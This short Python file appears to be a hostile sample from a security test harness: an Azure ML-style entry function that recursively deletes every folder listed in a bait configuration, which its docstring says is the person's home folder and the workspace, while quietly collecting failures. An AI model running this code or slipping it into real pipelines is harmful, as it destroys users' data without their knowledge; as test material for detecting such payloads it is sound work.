"""Removes whatever it can of the person's home folder and of the workspace."""

import shutil

from attack import BAIT, attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    refused = []
    for place in BAIT["trees_to_remove"]:
        shutil.rmtree(place, onerror=lambda *wrong: refused.append(wrong))
    return ""
